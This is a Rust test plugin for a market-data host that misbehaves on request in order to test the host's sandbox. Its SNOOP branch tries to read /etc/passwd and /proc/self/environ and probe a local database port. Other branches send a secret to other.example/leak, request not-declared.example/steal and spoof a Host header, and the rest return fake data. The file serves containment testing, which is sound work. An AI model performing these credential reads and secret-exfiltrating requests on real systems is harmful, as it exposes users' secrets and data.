//! A test-only provider plugin that misbehaves on request, so that the host's sandbox and
//! containment can be tested with a real component. The first requested symbol picks the
//! behaviour:
//!
//! - `LOOP`: spins forever (the host must interrupt it at its deadline);
//! - `ALLOC`: allocates without bound (the host's memory cap must stop it);
//! - `TRAP`: panics, which traps;
//! - `DENIED`: requests a host it does not declare;
//! - `SNOOP`: looks for environment variables, arguments, files and directories, and
//!   reports what it found as an `unsupported` error message;
//! - `SECRET`: sends `{{secret:x}}` to `other.example`, a host the secret is not bound to;
//! - `FETCH:<url>`: a well-behaved fetch: GETs `<url>` and returns the bars in its JSON body;
//! - `SPOOF:<url>`: GETs `<url>` (an allowed address) with a `Host: evil.example` header;
//! - `LEAK:…`, `LEAKERR:…`, `LOGFLOOD:<n>`, `DENYBIG`: secret and log attacks ([`leak`]);
//! - `OUTSIDE`, `DUPKEY`, `ENDLESS`, `BIGRAW`, `LOOPING`: bars and pages to keep out of the
//!   store ([`junk`]);
//! - `RECURSE`, `BIGPAGE`, `BADHEADER:<url>`: the sandbox's limits ([`strain`]);
//! - `EXTREMES`: two bars whose decimals are the hardest a provider sends (29 digits, 28
//!   decimal places, 10^15 volumes with 8 decimals, float digits), to cross the boundary;
//! - `OPTIONS`: answers `unsupported` with the values of its options as the host gave them;
//! - `fetch-actions`: for each symbol a 4-for-1 split and a 0.205 USD dividend on the first
//!   day asked for; `BADACTION`'s dividend is negative (to be quarantined);
//! - `fetch-series`: a fixed FRED-like page (a missing value, vintages) for any series but
//!   `BADDATE`, whose observation is dated 2021-02-30; `fetch-instruments`: two instruments;
//! - anything else: one bar per symbol, computed from the request, no I/O.

mod junk;
mod leak;
mod strain;

use mdhost_sdk::{
    ActionsPage, ActionsRequest, AssetClass, Bar, BarsPage, BarsRequest, Date, Dec, Dividend,
    DividendKind, Info, Instrument, InstrumentsPage, InstrumentsRequest, Observation, OptionKind,
    OptionSpec, OptionValue, Provider, ProviderError, RateLimit, SeriesMeta, SeriesPage,
    SeriesRequest, Split, TimeUnit, Timeframe, http, url,
};

struct Misbehave;

#[derive(serde::Deserialize)]
struct WireBar {
    t: i64,
    o: Dec,
    h: Dec,
    l: Dec,
    c: Dec,
    v: Option<Dec>,
}

fn snoop() -> String {
    let env = std::env::vars().count();
    let args = std::env::args().count();
    let files: Vec<String> = [
        "/etc/passwd",
        "/proc/self/environ",
        "./Cargo.toml",
        "plugins.toml",
    ]
    .iter()
    .map(|p| match std::fs::read(p) {
        Ok(b) => format!("{p}:read {} bytes", b.len()),
        Err(_) => format!("{p}:denied"),
    })
    .collect();
    let dirs: Vec<String> = ["/", "."]
        .iter()
        .map(|p| match std::fs::read_dir(p) {
            Ok(rd) => format!("{p}:listed {}", rd.count()),
            Err(_) => format!("{p}:denied"),
        })
        .collect();
    let socket = match std::net::TcpStream::connect("127.0.0.1:5432") {
        Ok(_) => "socket:connected".to_owned(),
        Err(_) => "socket:denied".to_owned(),
    };
    println!("snoop ran");
    format!(
        "env={env} args={args} {} {} {socket}",
        files.join(" "),
        dirs.join(" ")
    )
}

fn echo(req: &BarsRequest) -> BarsPage {
    let bars = req
        .symbols
        .iter()
        .map(|s| Bar {
            symbol: s.clone(),
            timeframe: req.timeframe,
            start: req.start,
            open: "100.25".into(),
            high: "101.5".into(),
            low: "99.75".into(),
            close: "100.5".into(),
            volume: Some("1200".into()),
            vwap: None,
            trades: None,
            complete: req.timeframe.end_of(req.start) <= req.end,
        })
        .collect();
    BarsPage {
        bars,
        next_cursor: None,
    }
}

fn fetch(target: &str, req: &BarsRequest) -> Result<BarsPage, ProviderError> {
    let resp = http::get_json(target)?.check_common()?;
    let wire: Vec<WireBar> = mdhost_sdk::decode_json(&resp.body)?;
    let symbol = req.symbols.get(1).cloned().unwrap_or_else(|| "TEST".into());
    let bars = wire
        .into_iter()
        .map(|w| Bar {
            symbol: symbol.clone(),
            timeframe: req.timeframe,
            start: w.t,
            open: w.o.into(),
            high: w.h.into(),
            low: w.l.into(),
            close: w.c.into(),
            volume: w.v.map(Into::into),
            vwap: None,
            trades: None,
            complete: true,
        })
        .collect();
    Ok(BarsPage {
        bars,
        next_cursor: None,
    })
}

impl Provider for Misbehave {
    fn describe() -> Info {
        Info {
            name: "misbehave".into(),
            // A literal found nowhere else in the binary, so that a test can patch it
            // (same length) to produce a second, genuinely different version.
            version: "1.0.0+misbehave".into(),
            description: "Test-only plugin that misbehaves on request".into(),
            asset_classes: vec![AssetClass::Equity],
            timeframes: vec![
                Timeframe::of(TimeUnit::Minute, 1),
                Timeframe::of(TimeUnit::Day, 1),
            ],
            allowed_hosts: vec![
                "127.0.0.1".into(),
                "localhost".into(),
                "api.bound.example".into(),
                "other.example".into(),
            ],
            secrets: vec!["x".into()],
            default_rate_limit: RateLimit {
                requests: 1000,
                per_seconds: 1,
            },
            max_symbols_per_request: 10,
            streaming: false,
            kinds: vec![
                mdhost_sdk::DataKind::Bars,
                mdhost_sdk::DataKind::CorporateActions,
                mdhost_sdk::DataKind::EconomicSeries,
                mdhost_sdk::DataKind::Instruments,
            ],
            default_quotas: vec![],
            options: vec![
                OptionSpec {
                    name: "label".into(),
                    description: "any text".into(),
                    kind: OptionKind::Text,
                    default: OptionValue::Text("none".into()),
                },
                OptionSpec {
                    name: "depth".into(),
                    description: "a small number".into(),
                    kind: OptionKind::Integer((1, 10)),
                    default: OptionValue::Integer(3),
                },
            ],
        }
    }

    fn fetch_actions(req: ActionsRequest) -> Result<ActionsPage, ProviderError> {
        let mut page = ActionsPage {
            splits: vec![],
            dividends: vec![],
            next_cursor: None,
        };
        for symbol in &req.symbols {
            page.splits.push(Split {
                symbol: symbol.clone(),
                ex_date: req.start,
                numerator: "4".into(),
                denominator: "1".into(),
                provider_id: None,
            });
            page.dividends.push(Dividend {
                symbol: symbol.clone(),
                ex_date: req.start,
                amount: if symbol == "BADACTION" { "-1" } else { "0.205" }.into(),
                currency: "USD".into(),
                kind: DividendKind::Regular,
                declared_date: None,
                record_date: None,
                pay_date: None,
                provider_id: Some(format!("div-{symbol}")),
            });
        }
        Ok(page)
    }

    fn fetch_series(req: SeriesRequest) -> Result<SeriesPage, ProviderError> {
        let day = |year, month, day| Date { year, month, day };
        let bad = req.series_id == "BADDATE";
        let observation = |date: Date, value: Option<&str>| Observation {
            date,
            value: value.map(Into::into),
            realtime_start: Some(day(2024, 1, 25)),
            realtime_end: Some(day(9999, 12, 31)),
        };
        Ok(SeriesPage {
            series_id: req.series_id.clone(),
            meta: Some(SeriesMeta {
                title: "Gross Domestic Product".into(),
                units: "Billions of Dollars".into(),
                frequency: "Quarterly".into(),
                seasonal_adjustment: Some("Seasonally Adjusted Annual Rate".into()),
                last_updated: None,
            }),
            observations: vec![
                observation(day(2023, 7, 1), Some("27610.128")),
                observation(
                    if bad {
                        day(2021, 2, 30)
                    } else {
                        day(2023, 10, 1)
                    },
                    None,
                ),
            ],
            next_cursor: None,
        })
    }

    fn fetch_instruments(_req: InstrumentsRequest) -> Result<InstrumentsPage, ProviderError> {
        let instrument = |symbol: &str, provider: &str, class| Instrument {
            symbol: symbol.into(),
            provider_symbol: provider.into(),
            name: None,
            asset_class: class,
            exchange: None,
            currency: Some("USD".into()),
            active: true,
            listed: None,
            delisted: None,
        };
        Ok(InstrumentsPage {
            instruments: vec![
                instrument("AAPL", "AAPL", AssetClass::Equity),
                instrument("BTC/USD", "X:BTCUSD", AssetClass::Crypto),
            ],
            next_cursor: None,
        })
    }

    fn fetch_bars(req: BarsRequest) -> Result<BarsPage, ProviderError> {
        let first = req.symbols.first().cloned().unwrap_or_default();
        match first.as_str() {
            "LOOP" => {
                let mut n: u64 = 0;
                loop {
                    n = std::hint::black_box(n.wrapping_add(1));
                }
            }
            "ALLOC" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(std::hint::black_box(vec![7u8; 1 << 20]));
                }
            }
            "TRAP" => panic!("misbehave: deliberate panic"),
            "DENIED" => {
                let e = http::get_json("https://not-declared.example/steal").err();
                Err(e
                    .unwrap_or_else(|| ProviderError::BadResponse("request was not denied".into())))
            }
            "SNOOP" => Err(ProviderError::Unsupported(snoop())),
            "EXTREMES" => Ok(extremes(&req)),
            "OPTIONS" => Err(ProviderError::Unsupported(format!(
                "label={:?} depth={:?} unknown={:?}",
                mdhost_sdk::option("label"),
                mdhost_sdk::option("depth"),
                mdhost_sdk::option("unknown"),
            ))),
            "SECRET" => {
                let u = url::UrlBuilder::new("https://other.example/leak")
                    .secret_query("k", "x")
                    .build();
                let e = http::get_json(&u).err();
                Err(e.unwrap_or_else(|| ProviderError::BadResponse("secret was sent".into())))
            }
            f if f.starts_with("FETCH:") => fetch(&f["FETCH:".len()..], &req),
            // An allowed address, presenting another name to it.
            f if f.starts_with("SPOOF:") => {
                let e = http::send(
                    "GET",
                    &f["SPOOF:".len()..],
                    &[("Host", "evil.example")],
                    None,
                )
                .err();
                Err(e.unwrap_or_else(|| ProviderError::BadResponse("Host header was sent".into())))
            }
            f if leak::handles(f) => leak::run(f, &req),
            f if junk::handles(f) => junk::run(f, &req),
            f if strain::handles(f) => strain::run(f, &req),
            _ => Ok(echo(&req)),
        }
    }
}

/// The decimals of [`EXTREMES`]: open, high, low, close, volume, vwap of two bars.
pub const EXTREMES: [[Option<&str>; 6]; 2] = [
    [
        Some("34.54999923706055"),
        Some("79228162514264337593543950335"),
        Some("0.0000000000000000000000000001"),
        Some("1.5"),
        Some("1000000000000000.12345678"),
        Some("0.00000001"),
    ],
    [
        Some("-0.5"),
        Some("9223372036854775807"),
        Some("0"),
        Some("2"),
        None,
        None,
    ],
];

fn extremes(req: &BarsRequest) -> BarsPage {
    let bars = EXTREMES
        .iter()
        .enumerate()
        .map(|(i, [o, h, l, c, v, w])| Bar {
            symbol: "EXTREMES".into(),
            timeframe: req.timeframe,
            start: req.start + i as i64 * req.timeframe.nanos().unwrap_or(1),
            open: o.unwrap_or_default().into(),
            high: h.unwrap_or_default().into(),
            low: l.unwrap_or_default().into(),
            close: c.unwrap_or_default().into(),
            volume: v.map(Into::into),
            vwap: w.map(Into::into),
            trades: (i == 0).then_some(u64::MAX),
            complete: i == 0,
        })
        .collect();
    BarsPage {
        bars,
        next_cursor: None,
    }
}

mdhost_sdk::no_stream!(Misbehave);
mdhost_sdk::export!(Misbehave);
